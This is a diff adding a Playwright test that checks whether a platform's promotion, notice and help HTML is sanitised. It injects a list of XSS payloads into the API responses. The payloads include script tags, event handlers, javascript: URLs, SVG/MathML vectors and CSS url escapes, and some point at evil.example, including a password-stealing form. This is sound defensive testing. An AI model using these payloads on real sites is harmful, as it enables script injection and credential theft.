@@ -1,0 +1,143 @@
+// Platform HTML with attacks in it (script tags, event handlers, javascript:
+// URLs, iframes, SVG and MathML payloads, foreign images, media and CSS that
+// loads, forms, meta refresh, base, object): help (popup), promotion (detail)
+// and notice (detail, list preview, popup) content render their text and none
+// of their behaviour in Chromium: no dialog, no script effect, no request to a
+// foreign origin. The answers are the platform's own, with the payload put
+// into their HTML on the way to the page.
+import type { Page, Route } from '@playwright/test';
+import { BRANDS, PLATFORM, brandUrl, expect, hydrated, test } from './fixtures.ts';
+import { client, quietPage } from './content-fixtures.ts';
+
+const PAYLOAD = [
+  '<p>Visible text A</p>',
+  "<script>window.__pwned='script';alert('script')</script>",
+  "<img src=\"x\" onerror=\"window.__pwned='onerror';alert(1)\">",
+  "<p onclick=\"window.__pwned='onclick'\" onmouseover=\"window.__pwned='hover'\">Click text B</p>",
+  "<a class=\"evil-link\" href=\"javascript:window.__pwned='js';alert(2)\">Link text C</a>",
+  "<iframe src=\"https://evil.example/frame\" onload=\"window.__pwned='iframe'\"></iframe>",
+  "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svgscript'</script><image href=\"https://evil.example/svg.png\"/><text>svg text</text></svg>",
+  "<math><mtext><img src=x onerror=\"window.__pwned='math'\"></mtext></math>",
+  '<img src="https://evil.example/pixel.png" alt="pixel">',
+  '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>',
+  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
+  '<p style="background:u\\72l(https://evil.example/css.png)">Styled text D</p>',
+  "<p style=\"background-image:image-set('https://evil.example/set.png' 1x)\">Styled text E</p>",
+  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
+  '<details open ontoggle="window.__pwned=\'toggle\'"><summary>Summary text F</summary></details>',
+].join('');
+
+const TEXTS = ['Visible text A', 'Click text B', 'Link text C', 'Styled text D', 'Styled text E', 'Summary text F'];
+
+/** Answers the platform's call with its own answer, every `content` field carrying the payload. */
+async function poison(route: Route) {
+  // Node cannot resolve <brand>.localhost: ask the same server by address, with the page's host.
+  const url = new URL(route.request().url());
+  const response = await route.fetch({ url: url.href.replace(url.host, `127.0.0.1:${url.port}`), headers: { ...route.request().headers(), host: url.host } });
+  const body = (await response.json()) as { success: boolean; value: unknown };
+  const visit = (v: unknown): unknown => {
+    if (Array.isArray(v)) return v.map(visit);
+    if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, k === 'content' && typeof x === 'string' ? PAYLOAD + x : visit(x)]));
+    return v;
+  };
+  await route.fulfill({ response, json: { ...body, value: visit(body.value) } });
+}
+
+async function guard(page: Page, allowedHosts: string[]) {
+  const dialogs: string[] = [];
+  const foreign: string[] = [];
+  page.on('dialog', async (d) => {
+    dialogs.push(d.message());
+    await d.dismiss();
+  });
+  page.on('request', (r) => {
+    const url = new URL(r.url());
+    if (url.protocol === 'data:' || url.protocol === 'blob:') return;
+    if (!allowedHosts.includes(url.host)) foreign.push(r.url());
+  });
+  await page.route(/\/api\/(content\/announcements\?|content\/notices|comm\/help)/, poison);
+  return { dialogs, foreign };
+}
+
+async function expectHarmless(page: Page, scope: string, seen: { dialogs: string[]; foreign: string[] }) {
+  const box = page.locator(scope).first();
+  await expect(box).toBeVisible();
+  for (const text of TEXTS) await expect(box).toContainText(text);
+  // Nothing executable or loading made it into the DOM.
+  const bad = await box.evaluate((el) => ({
+    elements: [...el.querySelectorAll('script, iframe, svg, math, object, embed, form, input, video, audio, source, base, meta, link, style')].map((e) => e.tagName),
+    handlers: [...el.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
+    jsLinks: [...el.querySelectorAll('[href], [src], [action], [poster]')].filter((e) => /javascript:|evil\.example/i.test(e.outerHTML)).map((e) => e.outerHTML),
+    styles: [...el.querySelectorAll('[style]')].map((e) => e.getAttribute('style')).filter((s) => /url|image-set|\\/i.test(s ?? '')),
+  }));
+  expect(bad).toEqual({ elements: [], handlers: [], jsLinks: [], styles: [] });
+  // Touching the content does nothing either.
+  const link = box.locator('a.evil-link, a:has-text("Link text C")').first();
+  if (await link.count()) await link.click({ force: true });
+  await box.getByText('Click text B').first().hover();
+  await box.getByText('Click text B').first().click({ force: true });
+  await page.waitForTimeout(300);
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
+  expect(seen.dialogs).toEqual([]);
+  expect(seen.foreign).toEqual([]);
+}
+
+for (const brand of BRANDS) {
+  test.describe(`${brand.id} sanitised platform HTML`, () => {
+    const hosts = () => [new URL(brandUrl(brand)).host, new URL(PLATFORM).host];
+
+    test('promotion detail', async ({ page }) => {
+      const seen = await guard(page, hosts());
+      const { promotion } = await client(PLATFORM, brand).announcements({ types: 'PR', platform: 'M' });
+      await quietPage(page);
+      await page.goto(brandUrl(brand, `/m/activity?id=${promotion[0]!.id}`));
+      await hydrated(page);
+      await expectHarmless(page, '.lk-promo-detail .lk-content-html', seen);
+      await expect(page).toHaveURL(brandUrl(brand, `/m/activity?id=${promotion[0]!.id}`));
+    });
+
+    test('notice detail and list preview', async ({ page }) => {
+      const seen = await guard(page, hosts());
+      const { list } = await client(PLATFORM, brand).notices({ pageSize: 50 });
+      await quietPage(page);
+      await page.goto(brandUrl(brand, '/m/notice'));
+      await hydrated(page);
+      // The preview is plain text: no markup at all.
+      await expect(page.locator('.lk-notice__preview').first()).toContainText('Visible text A');
+      expect(await page.locator('.lk-notice__preview').first().evaluate((el) => el.children.length)).toBe(0);
+      await page.goto(brandUrl(brand, `/m/noticeDetail?id=${list[0]!.id}`));
+      await hydrated(page);
+      await expectHarmless(page, '.lk-notice-detail__content', seen);
+    });
+
+    test('help popup', async ({ page }) => {
+      test.skip(!brand.layout.homeSections.some((s) => s.type === 'footer'), 'no footer to open the help popup from');
+      const seen = await guard(page, hosts());
+      await quietPage(page);
+      await page.goto(brandUrl(brand, '/m/home'));
+      await hydrated(page);
+      const footer = page.locator('.lk-footer');
+      for (let i = 0; i < 40 && !(await footer.count()); i++) {
+        await page.mouse.wheel(0, 1500);
+        await page.waitForTimeout(250);
+      }
+      await footer.locator('.lk-footer__actions button').first().click();
+      await expectHarmless(page, '.lk-help-popup .lk-help-item[open] .lk-content-html', seen);
+    });
+
+    test('notice popup', async ({ page }) => {
+      const seen = await guard(page, hosts());
+      await quietPage(page, { popups: true });
+      await page.goto(brandUrl(brand, '/m/home'));
+      await hydrated(page);
+      // The always-on layer listens for the first input once it is there.
+      await expect(page.locator('.lk-cs__toggle')).toBeVisible();
+      await page.keyboard.press('Shift');
+      await expectHarmless(page, '.lk-notice-popup .lk-slides__slide[aria-hidden="false"] .lk-content-html', seen);
+    });
+  });
+}
